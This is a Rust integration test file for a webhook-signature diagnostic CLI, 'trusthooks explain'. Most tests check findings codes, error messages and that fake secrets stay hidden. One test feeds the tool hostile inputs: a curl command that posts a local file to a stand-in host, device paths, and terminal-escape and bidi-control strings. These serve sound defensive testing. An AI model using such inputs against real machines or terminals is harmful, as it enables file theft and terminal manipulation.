//! `trusthooks explain` as a program: what it says, and how it ends.

use std::{
    fs,
    path::Path,
    process::{Command, Output, Stdio},
};

const CAPTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../explain/tests/captures");

/// Every secret ends with the same digits, so that a text can be searched for all of them.
const SECRETS: [(&str, &str); 6] = [
    ("TRUSTLENS_SECRET", "whsec_5f0c1d"),
    ("NEWLINE", "private-5f0c1d\n"),
    ("TRUSTOO_PRIVATE_TOKEN", "private-5f0c1d"),
    ("TRUSTOO_CLIENT_SECRET", "client-5f0c1d"),
    ("OTHER", "another-5f0c1d"),
    ("EMPTY", ""),
];

fn command(args: &str) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_trusthooks"));
    command.arg("explain").current_dir(CAPTURES).env_clear().envs(SECRETS);
    command.args(args.split(' ').filter(|arg| !arg.is_empty()));
    command
}

fn run(args: &str) -> (i32, String, String) {
    said(&command(args).stdin(Stdio::null()).output().unwrap())
}

fn said(output: &Output) -> (i32, String, String) {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    let (out, error) = (text(&output.stdout), text(&output.stderr));
    for said in [&out, &error] {
        assert!(!said.contains("5f0c1d"), "a secret is shown in:\n{said}");
    }
    (output.status.code().unwrap(), out, error)
}

/// The codes of the findings on a capture, the verdict before them.
fn codes(args: &str) -> Vec<String> {
    let (status, json, _) = run(&format!("--now 1780000010 --json {args}"));
    let report: serde_json::Value = serde_json::from_str(&json).unwrap();
    let code = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
    let findings = report["findings"].as_array().unwrap().iter();
    let codes: Vec<_> = [code(&report["verdict"])]
        .into_iter()
        .chain(findings.map(|it| code(&it["code"])))
        .collect();
    assert_eq!(status, i32::from(codes != ["ok"]));
    codes
}

#[test]
fn each_capture_is_read_and_explained() {
    let lens = "--scheme trustlens --secret-env TRUSTLENS_SECRET";
    let shop = "--scheme trustoo-shop --secret-env";
    let cases: [(&str, &[&str]); 12] = [
        (&format!("{lens} genuine.http"), &["ok"]),
        ("--secret-env TRUSTLENS_SECRET genuine.http", &["ok"]),
        (&format!("{lens} rewritten.http"), &["signature_mismatch", "body_rewritten"]),
        (&format!("{lens} time_zone.http"), &["expired", "whole_hours"]),
        (&format!("{lens} v1.curl"), &["signature_mismatch", "other_scheme"]),
        ("--scheme trustlens-v1 --secret-env TRUSTLENS_SECRET v1.curl", &["ok"]),
        (&format!("{shop} TRUSTOO_PRIVATE_TOKEN shop.har"), &["ok"]),
        ("--secret-env TRUSTOO_PRIVATE_TOKEN shop.har", &["ok"]),
        (
            &format!("{shop} NEWLINE --entry 2 shop.har"),
            &["signature_mismatch", "secret_white_space"],
        ),
        (
            &format!("{shop} OTHER --previous-env TRUSTOO_PRIVATE_TOKEN shop.har"),
            &["signature_mismatch", "previous_secret"],
        ),
        (
            &format!("{shop} TRUSTOO_PRIVATE_TOKEN --public-token other shop.har"),
            &["unknown_public_token", "other_public_token"],
        ),
        (
            "--scheme trustoo-system --secret-env TRUSTOO_CLIENT_SECRET --body system.json system.headers",
            &["malformed_signature", "upper_case"],
        ),
    ];
    for (args, expected) in cases {
        assert_eq!(codes(args), expected, "{args}");
    }
}

#[test]
fn the_window_and_the_clock_can_be_chosen() {
    let lens = "--scheme trustlens --secret-env TRUSTLENS_SECRET genuine.http";
    assert_eq!(run(&format!("--now 1780000301 --window 301 {lens}")).0, 0);
    assert_eq!(run(&format!("--now 1780000301 {lens}")).0, 1);
    let (status, said, _) = run(&format!("--now 1780259200 {lens}"));
    assert_eq!(status, 1);
    assert!(said.contains("1. late\n   seen  signed 3 days 0 h ago"), "{said}");
}

#[test]
fn unusable_input_is_named() {
    let lens = "--scheme trustlens --secret-env TRUSTLENS_SECRET";
    for (args, message) in [
        (String::new(), "--secret-env <VAR>"),
        ("--scheme trustlens".into(), "<CAPTURE>"),
        (format!("{lens} a b"), "unexpected argument"),
        (format!("{lens} no.http"), "no.http: No such file"),
        (format!("{lens} ."), "this is a folder"),
        (format!("{lens} /dev/null"), "not a regular file"),
        (format!("{lens} --now soon genuine.http"), "soon"),
        (format!("{lens} --entry 3 shop.har"), "there is no entry 3; the capture has 2"),
        (format!("{lens} --body no.json system.headers"), "no.json: No such file"),
        (format!("{lens} --body system.json genuine.http"), "something follows the headers"),
        (format!("{lens} system.json"), "the JSON has no request in it"),
        ("--secret-env TRUSTLENS_SECRET handed/manifest.json".into(), "no request in it"),
        ("--scheme stripe --secret-env OTHER genuine.http".into(), "not a scheme"),
        ("--scheme trustlens --secret-env UNSET genuine.http".into(), "UNSET is not set"),
        ("--scheme trustlens --secret-env EMPTY genuine.http".into(), "EMPTY is empty"),
    ] {
        let (status, _, error) = run(&args);
        assert_eq!(status, 2, "{args}");
        assert!(error.contains(message), "{args}: {error}");
    }
    let (_, json, _) = run(&format!("--json {lens} no.http"));
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(json["error"].as_str().unwrap().contains("No such file"));
}

#[test]
fn what_is_signed_is_shown_when_asked_for() {
    let args = "--now 1780000010 --secret-env TRUSTLENS_SECRET rewritten.http";
    let (_, said, _) = run(args);
    assert!(!said.contains("1780000000."), "{said}");
    let (_, said, _) = run(&format!("--show {args}"));
    assert!(said.contains("by the rules  1780000000.{"), "{said}");
    assert!(said.contains("They differ from byte "), "{said}");
    let (_, json, _) = run(&format!("--show --json {args}"));
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let strings = &json["strings"];
    let at = usize::try_from(strings["differ_at"].as_u64().unwrap()).unwrap();
    let text = |name: &str| strings[name].as_str().unwrap().as_bytes().to_vec();
    let (expected, signed) = (text("expected"), text("signed"));
    assert_eq!(expected[..at], signed[..at]);
    assert_ne!(expected.get(at), signed.get(at));
}

/// A stranger's capture opens no file, and nothing in it reaches the terminal as a command.
#[test]
fn a_strangers_capture_is_harmless() {
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str, content: &str| {
        let path = folder.path().join(name);
        fs::write(&path, content).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let secret = file("secret", "x");
    let lens = "--secret-env TRUSTLENS_SECRET";
    let command = format!("curl -H X-TrustLens-Signature:1 -d @{secret} http://h/");
    let (status, _, error) = run(&format!("{lens} {}", file("a.curl", &command)));
    assert_eq!(status, 2);
    assert!(error.contains("opened only when asked for"), "{error}");
    let (status, ..) = run(&format!("{lens} --files {}", file("a.curl", &command)));
    assert_eq!(status, 1);
    // Even then, no device and no pipe.
    for path in ["/dev/zero", "/dev/tty"] {
        let command = format!("curl -H X-TrustLens-Signature:1 -d @{path} http://h/");
        let (status, _, error) = run(&format!("{lens} --files {}", file("a.curl", &command)));
        assert_eq!(status, 2);
        assert!(error.contains("not a regular file"), "{error}");
    }
    #[cfg(unix)]
    {
        let pipe = folder.path().join("pipe");
        assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let (status, _, error) = run(&format!("{lens} {}", pipe.display()));
        assert_eq!(status, 2);
        assert!(error.contains("not a regular file"), "{error}");
    }
    for text in [
        "POST /\x1b]0;owned\x07 HTTP/1.1\nX-\x1b[31m: 1\n\n",
        "\x1b[2Jx: 1\n\n",
        "curl --\x1b[2J",
        "{\"\x1b[2J\": 1}",
        "X-TrustLens-Signature: \x1b[2J\nx: \u{202e}\n\n\u{9b}31m",
        "POST / HTTP/1.1\nA\u{9b}: 1\n\n",
    ] {
        for more in ["", " --show", " --json --show"] {
            let (_, out, error) = run(&format!("{lens} {}{more}", file("hostile", text)));
            for said in [out, error] {
                let is_harmful = |char: char| {
                    (char.is_control() && char != '\n') || matches!(char, '\u{202a}'..='\u{202e}')
                };
                assert!(!said.contains(is_harmful), "{text:?}{more}: {said:?}");
            }
        }
    }
}

#[test]
fn help_version_and_completions() {
    let program = |args: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_trusthooks")).args(args).output().unwrap();
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    for command in ["explain", "send", "record", "sign", "completions"] {
        let (status, help) = program(&[command, "--help"]);
        assert_eq!(status, Some(0));
        assert!(help.contains("Example"), "{help}");
        assert!(help.contains(&format!("  trusthooks {command}")), "{help}");
    }
    let (status, version) = program(&["--version"]);
    assert_eq!(
        (status, &*version),
        (Some(0), concat!("trusthooks ", env!("CARGO_PKG_VERSION"), "\n"))
    );
    for shell in ["bash", "zsh", "fish", "powershell"] {
        let (status, script) = program(&["completions", shell]);
        assert_eq!(status, Some(0));
        assert!(script.contains("--secret-env") || script.contains("secret-env"), "{shell}");
    }
    assert_eq!(program(&[]).0, Some(2));
}

#[test]
fn standard_input_is_read_up_to_a_bound() {
    use std::io::Write as _;
    let mut child = command("--secret-env TRUSTLENS_SECRET -")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let block = vec![b'x'; 1024 * 1024];
    // The program stops reading, so that the pipe breaks.
    let written = (0..200).take_while(|_| stdin.write_all(&block).is_ok()).count();
    drop(stdin);
    assert!(written < 100, "{written} MiB were read");
    let (status, _, error) = said(&child.wait_with_output().unwrap());
    assert_eq!(status, 2);
    assert!(error.contains("longer than 32 MiB"), "{error}");
    assert!(Path::new(CAPTURES).exists());
}
